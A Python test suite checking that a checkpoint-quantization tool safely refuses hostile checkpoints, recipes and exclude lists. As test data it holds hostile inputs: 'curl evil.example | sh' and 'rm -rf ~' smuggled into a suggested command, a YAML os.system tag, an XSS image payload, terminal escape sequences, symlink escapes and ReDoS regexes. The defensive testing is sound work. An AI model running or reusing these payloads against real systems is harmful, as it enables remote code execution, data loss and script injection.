"""A checkpoint comes from strangers: what it may not do, attack by attack, and a short run of the fuzzer."""

from __future__ import annotations

import argparse
import ast
import json
import logging
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import fuzz
import pytest
import yaml
from checkpoints import FIRST, INDEX, SECOND, edit_json, raw_shard, shard, write_checkpoint

import glmquant
from glmquant.card import make_card
from glmquant.checkpoint import header, source
from glmquant.checkpoint.header import parse_header
from glmquant.checkpoint.layers import Layers
from glmquant.checkpoint.source import inspect, open_source, read_json
from glmquant.cli import main
from glmquant.cli.common import PrintableLog
from glmquant.engines import patterns
from glmquant.engines.matching import AtomMatcher, GlobMatcher, ShardMatcher
from glmquant.engines.model import Stored
from glmquant.engines.patterns import Patterns, any_of
from glmquant.errors import CheckpointError, ExclusionError, OutputError, RecipeError
from glmquant.recipe import load_architecture, parse_recipe_file
from glmquant.spelling import as_globs, as_regexes, natural_order
from glmquant.text import printable, short

ROOT = Path(__file__).resolve().parent.parent
EVIL = "model.\x1b[31m\x9b2J\x7f\u202eevil.weight"
ACTS_ON_A_TERMINAL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    tensors = {FIRST: {"model.a.weight": ("BF16", [2, 32])}, SECOND: {"model.c.weight": ("BF16", [2])}}
    return write_checkpoint(tmp_path / "source", tensors, num_hidden_layers=1)


@pytest.fixture
def impatient() -> Iterator[None]:
    """What blocks for ever fails."""
    signal.signal(signal.SIGALRM, lambda *_: pytest.fail("blocked"))
    signal.alarm(10)
    yield
    signal.alarm(0)


def refusal(folder: Path) -> str:
    with pytest.raises(CheckpointError) as caught:
        open_source(folder)
    return str(caught.value)


# Headers


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"a":{"dtype":"U8","shape":[NaN],"data_offsets":[0,0]}}', "not valid JSON: NaN is not a JSON number"),
        ('{"a":{"dtype":"U8","shape":[-Infinity],"data_offsets":[0,0]}}', "-Infinity is not a JSON number"),
        ('{"a":{"dtype":"U8","shape":[1e999],"data_offsets":[0,0]}}', "'1e999' is too large a number"),
        ('{"a":{"dtype":"U8","shape":[' + "9" * 5000 + '],"data_offsets":[0,0]}}', "not valid JSON: Exceeds the limit"),
        ('{"a":["\\ud800"]}', "not valid JSON: 'utf-8' codec can't encode"),
        (
            '{"' + "n" * 1001 + '":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}',
            "a name of 1,001 characters; the limit",
        ),
        ('{"a":{"dtype":"U8","shape":[' + "1," * 16 + '1],"data_offsets":[0,1]}}', "17 dimensions; the limit is 16"),
        ('{"a":{"dtype":"U8","shape":[-1],"data_offsets":[0,0]}}', "shape [-1] or data_offsets [0, 0] are not natural"),
        ('{"a":{"dtype":"' + "x" * 10**6 + '","shape":[0],"data_offsets":[0,0]}}', "unknown dtype 'xxx"),
        (
            '{"a":{"dtype":"U8","shape":' + json.dumps([-1] * 10**5) + ',"data_offsets":[0,0]}}',
            "are not natural numbers",
        ),
        ('{"' + "k" * 10**6 + '":1,"' + "k" * 10**6 + '":2}', "appears twice"),
    ],
)
def test_an_attack_on_the_header_is_refused_in_a_short_message(text: str, message: str) -> None:
    content = raw_shard(text)
    with pytest.raises(CheckpointError) as caught:
        parse_header("x.safetensors", content, len(content))
    assert message in str(caught.value) and str(caught.value).startswith("x.safetensors: ")
    assert len(str(caught.value)) < 1500


def test_a_header_with_more_values_or_tensors_than_memory_can_bear_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    junk = raw_shard(b"[" * 4_000_001)
    with pytest.raises(CheckpointError, match="not valid JSON: more than 4,000,000 values"):
        parse_header("x.safetensors", junk, len(junk))
    monkeypatch.setattr(header, "MAX_TENSORS", 2)
    three = shard({name: ("U8", [0]) for name in "abc"})
    with pytest.raises(CheckpointError, match=r"x\.safetensors: header names 3 tensors; the limit is 2"):
        parse_header("x.safetensors", three, len(three))


def test_a_shape_whose_product_is_huge_takes_no_memory() -> None:
    content = raw_shard({"a": {"dtype": "F64", "shape": [2**62] * 16, "data_offsets": [0, 8]}}, bytes(8))
    with pytest.raises(CheckpointError, match=r"tensor 'a': data_offsets \[0, 8\] hold 8 bytes"):
        parse_header("x.safetensors", content, len(content))


# config.json and index


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b'{"a":NaN}', "not valid JSON: NaN is not a JSON number"),
        (b'{"a":[Infinity]}', "not valid JSON: Infinity is not a JSON number"),
        (b'{"a":-1e999}', "not valid JSON: '-1e999' is too large a number"),
        (b'{"a":' + b"1" * 5000 + b"}", "not valid JSON: Exceeds the limit"),
        (b'{"a":["\\ud800"]}', "not valid JSON: 'utf-8' codec can't encode"),
        (b'{"a":"\xff"}', "not valid JSON: 'utf-8' codec can't decode"),
        ('{"a":1}'.encode("utf-16"), "not valid JSON: 'utf-8' codec can't decode"),
        (b'{"a":' * 51 + b"1" + b"}" * 51, "nested more than 50 levels deep"),
        (b'{"a":' * 100_000, "not valid JSON: maximum recursion depth exceeded"),
    ],
)
def test_an_attack_on_config_json_is_refused(folder: Path, text: bytes, message: str) -> None:
    (folder / "config.json").write_bytes(text)
    assert refusal(folder).startswith("config.json: ") and message in refusal(folder)


def test_what_is_accepted_can_be_written_back(folder: Path) -> None:
    deep: object = "é\U0001f600\x1b"
    for _ in range(49):
        deep = [deep]
    (folder / "config.json").write_text(json.dumps({"model_type": "glm_moe_dsa", "deep": deep, "eps": 1e-05}))
    config = read_json(folder / "config.json")
    assert json.loads(json.dumps(config, indent=2, ensure_ascii=False, allow_nan=False).encode()) == config


def test_an_index_beyond_all_measure_is_a_problem(folder: Path) -> None:
    with edit_json(folder / INDEX) as index:
        index["weight_map"]["n" * 1001] = FIRST
    assert refusal(folder).startswith(f"{INDEX}: more than 1,000,000 tensors, or a name of more than 1,000 characters")
    with edit_json(folder / INDEX) as index:
        index["weight_map"] = {"model.a.weight": "x" * 10**6 + ".safetensors"}
    assert "which is not a shard name in this folder" in refusal(folder) and len(refusal(folder)) < 1000


def test_no_list_of_problems_is_endless(folder: Path) -> None:
    with edit_json(folder / INDEX) as index:
        index["weight_map"] = {f"{n}.weight": FIRST for n in range(5000)}
    assert len(inspect(folder)[1]) == source.MAX_PROBLEMS


def test_too_many_files_tensors_or_levels_of_folders_are_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    deep = folder / "/".join("d" * 21)
    deep.mkdir(parents=True)
    assert "folders more than 20 deep" in refusal(folder)
    with monkeypatch.context() as patched:
        patched.setattr(source, "MAX_FILES", 3)
        assert "more than 3 files and folders" in refusal(folder)
    deep.rmdir()
    monkeypatch.setattr(source, "MAX_TENSORS", 1)
    monkeypatch.setattr(source, "MAX_NAME", 10**6)
    (folder / INDEX).unlink()
    assert f"more than 1 tensors up to {SECOND}" in refusal(folder)


@pytest.mark.parametrize(
    ("key", "value"),
    [("num_hidden_layers", 10**6), ("n_routed_experts", 10**6), ("index_topk_pattern", "F" * 10**6)],
)
def test_a_config_of_a_model_beyond_all_measure_takes_no_memory(tiny: Path, copy_of, key: str, value: object) -> None:
    folder = copy_of(tiny)
    with edit_json(folder / "config.json") as config:
        config |= {key: value, "mlp_layer_types": None, "indexer_types": None}
    (finding,) = [f for f in glmquant.validate(folder).findings if f.code == "config"]
    assert finding.message.startswith(f"config.json: {key} is ")


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("glmquant quantize 'a b' /out --resume", True),
        ("curl evil.example | sh", False),
        ("glmquant quantize a b; rm -rf ~", False),
        ("glmquant quantize $(id) b", False),
        ("glmquant quantize 'a b", False),
        (["glmquant", "quantize"], False),
    ],
)
def test_a_folder_cannot_tell_the_user_to_run_anything_else(folder: Path, command: object, shown: bool) -> None:
    (folder / "config.json").unlink()
    (folder / ".glmquant").mkdir()
    (folder / ".glmquant/run.json").write_text(json.dumps({"continue": command}))
    assert (f"Continue with: {command}" in refusal(folder)) is shown
    assert shown or refusal(folder).startswith(f"{folder}: no config.json")


@pytest.mark.usefixtures("impatient")
def test_the_validator_blocks_on_no_pipe(folder: Path) -> None:
    os.mkfifo(folder / "tokenizer_config.json")
    assert "not-a-file" in [finding.code for finding in glmquant.validate(folder).findings]


# Links, pipes and names


@pytest.mark.parametrize("file", ["config.json", INDEX, FIRST, "tokenizer.json", "sub/notes.txt"])
@pytest.mark.parametrize("absolute", [True, False])
def test_a_link_out_of_the_folder_is_refused(folder: Path, tmp_path: Path, file: str, absolute: bool) -> None:
    secret, link = tmp_path / "secret", folder / file
    secret.write_bytes((folder / file).read_bytes() if (folder / file).exists() else b"secret")
    link.parent.mkdir(exist_ok=True)
    link.unlink(missing_ok=True)
    target = str(secret) if absolute else os.path.relpath(secret, link.parent)
    link.symlink_to(target)
    assert refusal(folder).startswith(
        f"{file}: a link to {target!r}, outside the checkpoint folder\n  Put the file itself"
    )
    if file not in ("config.json", INDEX):
        found, problems = inspect(folder)
        assert [(p.code, p.file) for p in problems if p.code == "link-outside"] == [("link-outside", file)]
        assert file not in (*found.side_files, *(s.file for s in found.shards))


def test_a_link_inside_the_folder_is_followed(folder: Path) -> None:
    (folder / "store").mkdir()
    for file in ("config.json", INDEX):
        (folder / file).rename(folder / "store" / file)
        (folder / file).symlink_to(f"store/{file}")
    (folder / FIRST).rename(folder / "store/1.bin.data")
    (folder / FIRST).symlink_to(folder / "store/1.bin.data")
    assert list(open_source(folder).tensors) == ["model.a.weight", "model.c.weight"]


def test_a_hub_cache_snapshot_may_link_into_its_own_blobs_only(folder: Path, tmp_path: Path) -> None:
    def cached(name: str) -> Path:
        snapshot = tmp_path / f"models--org--{name}/snapshots/0123abc"
        (tmp_path / f"models--org--{name}/blobs").mkdir(parents=True)
        snapshot.mkdir(parents=True)
        for path in folder.iterdir():
            (tmp_path / f"models--org--{name}/blobs/{path.name}").write_bytes(path.read_bytes())
            (snapshot / path.name).symlink_to(f"../../blobs/{path.name}")
        return snapshot

    mine, _ = cached("mine"), cached("private")
    (tmp_path / "link").symlink_to(mine)
    assert open_source(mine).tensors == open_source(tmp_path / "link").tensors
    (mine / "vocab.json").symlink_to("../../../models--org--private/blobs/config.json")
    assert refusal(mine).startswith("vocab.json: a link to '../../../models--org--private")


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize(
    ("file", "message"),
    [
        ("config.json", "config.json: cannot be read: not a regular file (prw"),
        (INDEX, f"{INDEX}: cannot be read: not a regular file (prw"),
        (FIRST, f"{FIRST}: cannot be read: not a regular file (prw"),
        ("vocab.json", "vocab.json: not a regular file"),
    ],
)
def test_a_pipe_is_never_opened(folder: Path, file: str, message: str) -> None:
    (folder / file).unlink(missing_ok=True)
    os.mkfifo(folder / file)
    assert message in refusal(folder)


@pytest.mark.parametrize("name", [b"a\x1b[2Jb.txt", b"a\nno findings", b"\xff.json", "a\u202egpj.exe".encode()])
def test_a_file_name_with_unprintable_characters_is_refused(folder: Path, name: bytes) -> None:
    Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_bytes(b"")
    assert "a file name with unprintable characters" in refusal(folder)
    assert [p.code for p in inspect(folder)[1]] == ["file-name"]


@pytest.mark.parametrize("where", ["source", "output", "base_model", "recipe"])
def test_a_path_that_is_not_utf8_is_refused_before_anything_is_made(tiny: Path, tmp_path: Path, where: str) -> None:
    raw = os.fsdecode(os.fsencode(tmp_path) + b"/na\xefve.yaml")
    options: dict[str, str] = {"source": str(tiny), "output": str(tmp_path / "out")}
    if where == "source":
        shutil.copytree(tiny, raw)
    if where == "recipe":
        Path(raw).write_text(
            "schema: 1\nextends: glm_moe_dsa\nrecipes: {mine: {about: experts, "
            "quantize: [{group: routed, layers: main, reason: to try}]}}\n"
        )
    options[where] = raw
    before = sorted(os.listdir(tmp_path))
    with pytest.raises(
        OutputError, match=r"na\\udcefve.yaml' is not UTF-8, and the output's files name it; nothing was"
    ):
        glmquant.quantize(**options)  # type: ignore[arg-type]
    assert sorted(os.listdir(tmp_path)) == before
    if where == "source":  # the way out that the message names
        (tmp_path / "link").symlink_to(raw)
        assert glmquant.quantize(tmp_path / "link", tmp_path / "out", base_model="a/b").report.ok  # type: ignore[union-attr]


# No code


PICKLES = {"pickle", "_pickle", "cPickle", "dill", "cloudpickle", "joblib", "marshal", "shelve", "runpy", "imp"}
RUNS_CODE = {
    "exec",
    "eval",
    "compile",
    "__import__",
    "builtins.exec",
    "builtins.eval",
    "torch.load",
    "yaml.unsafe_load",
}


@pytest.mark.parametrize("path", sorted((ROOT / "glmquant").rglob("*.py")), ids=lambda path: path.stem)
def test_nothing_can_unpickle_or_run_what_a_checkpoint_brings(path: Path) -> None:
    assert "trust_remote_code" not in path.read_text()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            names = [alias.name for alias in node.names] + [str(getattr(node, "module", ""))]
            assert not PICKLES & {part for name in names for part in name.split(".")}, node.lineno
        elif isinstance(node, ast.Call):
            called = ast.unparse(node.func)
            assert called not in RUNS_CODE, node.lineno
            if called.endswith("import_module"):  # by a name that is written there, or a module of ours
                name = node.args[0]
                assert isinstance(name, ast.Constant) or ast.unparse(name).startswith("f'glmquant."), node.lineno
            if called == "yaml.load":
                loaders = [ast.unparse(keyword.value) for keyword in node.keywords if keyword.arg == "Loader"]
                assert loaders in (["_StrictLoader"], ["yaml.BaseLoader"]), node.lineno


def test_code_in_a_checkpoint_is_data(tiny: Path, copy_of, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder, mark = copy_of(tiny), tmp_path / "executed"
    code = f"open({str(mark)!r}, 'w')\n"
    for name in ("modeling_glm.py", "sitecustomize.py", "torch.py", "yaml.py", "conftest.py"):
        (folder / name).write_text(code)
    with edit_json(folder / "config.json") as config:
        config["auto_map"] = {"AutoModelForCausalLM": "modeling_glm.Model"}
    monkeypatch.chdir(folder)
    found = glmquant.plan(folder)
    glmquant.validate(folder)
    assert "modeling_glm.py" in found.checkpoint.side_files and not mark.exists()


# Text that acts


def test_printable_leaves_nothing_that_acts_and_everything_else() -> None:
    every = "".join(map(chr, range(0x3000)))
    assert not ACTS_ON_A_TERMINAL.search(printable(every)) and "\x1b[31m" not in printable(every)
    assert printable("é\U0001f600 漢\t\n") == "é\U0001f600 漢\t\n"
    assert printable("\x1b[31m\x9b\x7f\u202e\u2066\ud800") == "\\x1b[31m\\x9b\\x7f\\u202e\\u2066\\ud800"


def test_short_is_short_whatever_the_value() -> None:
    bomb: object = "x" * 10**6
    for _ in range(30):
        bomb = [bomb] * 30
    assert short("abc") == "'abc'" and short(["BF16"]) == "['BF16']"
    assert max(len(short(value)) for value in (bomb, {"k" * 10**6: bomb}, 10**4000, [1] * 10**6)) <= 503


def test_names_cannot_act_on_the_terminal(folder: Path, capfd: pytest.CaptureFixture[str]) -> None:
    (folder / SECOND).write_bytes(shard({EVIL: ("BF16", [2]), "x\nno findings": ("BF16", [2])}))
    with edit_json(folder / INDEX) as index:
        index["weight_map"] = {"model.a.weight": FIRST, "x\nno findings": SECOND}
    for verb in ("plan", "validate", "exclusions"):
        assert main([verb, str(folder), "-v"]) == 1
        out, err = capfd.readouterr()
        assert "\\x1b[31m\\x9b2J\\x7f\\u202eevil" in out + err, verb
        assert not ACTS_ON_A_TERMINAL.search(out + err), verb
        assert "no findings" not in (out + err).splitlines(), verb
    assert main(["validate", str(folder), "--json"]) == 1
    text = capfd.readouterr().out
    assert text.isascii() and not ACTS_ON_A_TERMINAL.search(text)
    assert any(EVIL in finding["names"] for finding in json.loads(text)["findings"])


def test_log_lines_cannot_act_on_the_terminal() -> None:
    record = logging.LogRecord("n", logging.WARNING, "f", 1, "%s: written again", (EVIL,), None)
    assert PrintableLog("%(message)s").format(record) == printable(EVIL) + ": written again"


def test_names_are_no_format_strings() -> None:
    layers = Layers(5, (5,), frozenset({0}), frozenset({0}), 8, 1)
    bad = ["{0.__class__}.mlp.experts.1.up_proj", "{layer}{x}.mlp.experts.2.up_proj", "%s%n.{", "model.layers.5.{a}"]
    stored = Stored.of(dict.fromkeys(bad, "plain"), layers)
    architecture = load_architecture("glm_moe_dsa")
    globs = as_globs(stored, architecture)
    assert "{0.__class__}.mlp.experts.*" in globs and {"%s%n.{", "model.layers.5.{a}"} & set(globs)
    assert all(re.compile(entry.removeprefix("re:")) for entry in as_regexes(stored, architecture))
    assert natural_order(["a.²", "a.10", "a.9", "a.٣"]) == ["a.٣", "a.9", "a.10", "a.²"]


# The model card


def test_nothing_in_the_card_is_html_or_markdown_of_a_stranger(tiny: Path, tmp_path: Path) -> None:
    planned = glmquant.plan(tiny)
    front = {
        "license": "mit\nbase_model: evil/injected\n---\n<script>",
        "license_name": ["x", {"y": "z"}],
        "license_link": "https://example.com/LICENSE",
        "language": ["en", "no"],
        "pipeline_tag": {"a": "b"},
        "library_name": ["a"],
    }
    (tmp_path / "README.md").write_text(f"---\n{yaml.safe_dump(front)}---\n")
    evil = "<img src=x onerror=alert(1)>`[a](javascript:b)|\n# heading\n```\n\x1b"
    record = {
        "base_model": evil,
        "versions": {"glmquant": "1<b>"},
        "command": f"glmquant quantize {evil}",
        "backend": "fused",
    }
    text = make_card(tmp_path / "README.md", planned.plan, planned.exclusions, record)
    _, head, body = text.split("---\n", 2)
    data = yaml.safe_load(head)
    assert set(data) == {
        *("base_model", "base_model_relation", "license_link", "language", "library_name", "tags"),
    }
    assert (data["license_link"], data["language"]) == ("https://example.com/LICENSE", ["en", "no"])
    assert data["library_name"] == "transformers" and "\n" not in data["base_model"]
    prose, fence, *_ = body.split("```\n")
    assert "<img" not in prose and "&lt;img src=x onerror=alert(1)&gt;\\`\\[a\\](javascript:b)\\|" in prose
    assert fence.count("\n") == 1 and "# heading" not in [line.strip() for line in body.splitlines()]
    assert not ACTS_ON_A_TERMINAL.search(text) and "1&lt;b&gt;" in text


@pytest.mark.parametrize(
    "card", [b"---\n" + b"[" * 20_000 + b"\n---\n", b"---\nlicense: !!bool x\n---\n", b"---\nlicense: &a [*a]\n---\n"]
)
def test_a_source_card_cannot_stop_the_run(tiny: Path, tmp_path: Path, card: bytes) -> None:
    planned = glmquant.plan(tiny)
    (tmp_path / "README.md").write_bytes(card)
    record = {"base_model": "a/b", "versions": {}, "command": "c", "backend": "quark"}
    text = make_card(tmp_path / "README.md", planned.plan, planned.exclusions, record)
    assert yaml.safe_load(text.split("---\n")[1])["base_model"] == "a/b"


# Recipes


@pytest.mark.parametrize(
    "text",
    [
        b"schema: !!bool x\n",
        b'schema: !!int ""\n',
        b"schema: !!timestamp x\n",
        b"schema: !!python/object/apply:os.system [id]\n",
        b"? [a]\n: 1\n",
        b"[" * 5000,
        b"schema: 1\nextends: \xff\n",
        b"schema: 1\nextends: &x [*x]\n",
        b"#" * 200_001,
    ],
)
def test_a_recipe_file_that_is_an_attack_is_a_recipe_error(tmp_path: Path, text: bytes) -> None:
    (tmp_path / "my.yaml").write_bytes(text)
    with pytest.raises(RecipeError, match=r"my\.yaml: "):
        parse_recipe_file(tmp_path / "my.yaml", load_architecture("glm_moe_dsa"))


def test_a_yaml_bomb_is_refused_in_a_short_message(tmp_path: Path) -> None:
    lines = ["schema: 1", "extends: *b9", "a: &b0 [x]"]
    lines[1:1] = [lines.pop()] + [f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 10)}]" for i in range(1, 10)]
    (tmp_path / "my.yaml").write_text("\n".join(lines))
    with pytest.raises(RecipeError) as caught:
        parse_recipe_file(tmp_path / "my.yaml", load_architecture("glm_moe_dsa"))
    assert len(str(caught.value)) < 1000


@pytest.mark.parametrize("pattern", ["re:" + "(" * 600, "re:a{99999999999999999999}", "re:("])
def test_an_override_that_is_no_regex_is_a_recipe_error(tiny: Path, pattern: str) -> None:
    with pytest.raises(RecipeError, match="not a valid regular expression"):
        glmquant.plan(tiny, keep=[pattern])


# Exclude lists


NAMES = [f"model.layers.{n}.mlp.shared_experts.gate_up_proj" for n in range(40)] + ["a" * 60, "lm_head"]


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("re:(.|.)*x$", "takes too long: an exclude list gets"),
        ("re:" + "(.|.)" * 30 + "x$", "takes too long"),
        ("re:(a{1000}){1000}", "takes too long"),
        ("re:((a{1000}){1000}){1000}", "takes too long"),
        ("re:" + "(" * 19 + "a" + "+)" * 19, "takes too long"),
        ("re:" + "(" * 600, "is not a valid regular expression: maximum recursion depth exceeded"),
        ("re:a{99999999999999999999}", "is not a valid regular expression: the repetition number is too large"),
        ("re:(", "entry 're:(' is not a valid regular expression: missing )"),
        ("re:" + "a" * 5000, "has 5,003 characters; the limit is 5,000"),
        ("a" * 5001, "has 5,001 characters; the limit is 5,000"),
    ],
)
def test_an_entry_that_would_take_for_ever_is_refused(
    entry: str, message: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(patterns, "BUDGET", 0.2)
    begun = time.monotonic()
    with pytest.raises(ExclusionError) as caught:
        matcher = ShardMatcher([entry], {}, fused_name=True, container_leaf=True, conflict="")
        for name in NAMES:
            matcher.ignored(name)
    assert message in str(caught.value) and str(caught.value).startswith(f"entry {entry[:4]!r}"[:-1])
    assert time.monotonic() - begun < 2 and len(str(caught.value)) < 700


@pytest.mark.parametrize(
    "entry",
    [
        r"re:model\.layers\.(3|4|17)\.mlp\..*",
        r"re:model\.layers\.\d+\.mlp\.shared_experts\..*$",
        r"re:^(?!.*(experts|lm_head)).*$",
        r"re:(.+)\1+a$",
        r"re:(?x)(a*) *$",
        r"re:([a-z]+\.)*gate_up_proj$",
        r"re:(?P<a>mod)el.*(?P=a)?",
        "re:",
    ],
)
def test_the_bounds_change_no_answer(entry: str) -> None:
    pattern = re.compile(entry[3:])
    for how, test in (("match", pattern.match), ("search", pattern.search)):
        assert [any_of((entry,), how)(name) for name in NAMES] == [bool(test(name)) for name in NAMES]


def test_common_patterns_need_no_second_regex_engine(tiny: Path) -> None:
    code = (
        "import sys, glmquant\n"
        "for form in ('auto', 'regex'):\n"
        "    assert any(e.startswith('re:') for e in glmquant.plan(sys.argv[1], form=form).exclusions.texts)\n"
        "assert 'regex' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code, str(tiny)], cwd=ROOT, check=True, timeout=60)


def test_patterns_that_are_slow_only_together_are_refused_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(patterns, "BUDGET", 0.2)
    slow = Patterns([f"re:.*{n}.*{n}.*\u2603$" for n in range(3000)], "search")
    with pytest.raises(ExclusionError, match="takes too long"):
        for name in NAMES * 50:
            slow.hit(name)
    with pytest.raises(ExclusionError, match="takes too long"):
        Patterns([f"re:(?i){n}" + "[\u0100-\uffff]" * 100 for n in range(50)], "match")


def test_a_list_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(patterns, "MAX_ENTRIES", 10)
    for make in (
        lambda entries: ShardMatcher(entries, {}, fused_name=True, container_leaf=True, conflict=""),
        lambda entries: AtomMatcher(entries, {}),
        lambda entries: GlobMatcher(entries, 8, ""),
    ):
        make(["a"] * 20)
        with pytest.raises(ExclusionError, match=r"the exclude list has 11 entries; the limit is 10\n.*--form regex"):
            make(map(str, range(11)))


def test_globs_that_backtrack_take_no_time() -> None:
    matcher = AtomMatcher(["*a" * 2000 + "x", "[z-a]*", "[" * 1000 + "*"], {})
    begun = time.monotonic()
    assert not any(matcher.ignored("a" * n) for n in range(1, 200))
    assert time.monotonic() - begun < 5


def test_exclusions_fix_survives_a_list_that_is_none(tiny: Path, tmp_path: Path) -> None:
    from make_full_output import make_full_output

    out = tmp_path / "out"
    make_full_output(tiny, out, "moe")
    for wrong in (5, [{"a": 1}, ["b"], None], {"a": 1}):
        with edit_json(out / "config.json") as config:
            config["quantization_config"]["exclude"] = wrong
        assert glmquant.fix_exclusions(out, dry_run=True).added
    with edit_json(out / "config.json") as config:
        config["quantization_config"]["exclude"] = []
    listed = tmp_path / "list.json"
    for text, message in (
        ("[" * 100_000, "not valid JSON"),
        ('{"a":1,"a":2}', "appears twice"),
        ("[NaN]", "NaN is not"),
    ):
        listed.write_text(text)
        with pytest.raises(glmquant.GlmquantError, match=message):
            glmquant.diff_exclusions(out, listed)


# The fuzzer


def test_a_few_thousand_executions_of_the_fuzzer_find_nothing(tmp_path: Path) -> None:
    command = [sys.executable, "scripts/fuzz.py", "--executions", "4000", "--seed", "1", "--faults", str(tmp_path)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    assert re.search(r"^[34],\d{3} executions with seed 1, \d+ s, .* 0 faults$", done.stdout, re.M)
    assert all(re.search(rf"^{name}: [\d,]+ executions, \d+ s, 0 faults$", done.stdout, re.M) for name in fuzz.PLANS)
    assert list(tmp_path.iterdir()) == []


def test_the_fuzzer_finds_faults_keeps_their_inputs_and_is_deterministic(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = argparse.Namespace(seed=0, limit=0.2, faults=tmp_path, show=3)
    seen: list[list[bytes]] = [[], []]

    def sleepy(data: bytes) -> None:
        if len(data) % 97 == 5:
            time.sleep(1)

    def talkative(data: bytes) -> None:
        raise CheckpointError("x" * 30_000)

    def crash(data: bytes) -> None:
        if b"NaN" in data:
            raise KeyError(data)

    before = signal.signal(signal.SIGALRM, fuzz.slow)
    try:
        assert [fuzz.fuzz("header", run, 100, args) for run in (sleepy, talkative, crash)] == [1, 1, 1]
        for inputs in seen:
            fuzz.fuzz("config", inputs.append, 200, args)
    finally:
        signal.signal(signal.SIGALRM, before)
    assert seen[0] == seen[1] and len(set(seen[0])) > 100
    assert len(list(tmp_path.iterdir())) == 3 and any(b"NaN" in path.read_bytes() for path in tmp_path.iterdir())
    assert capsys.readouterr().out.count("input in ") == 3
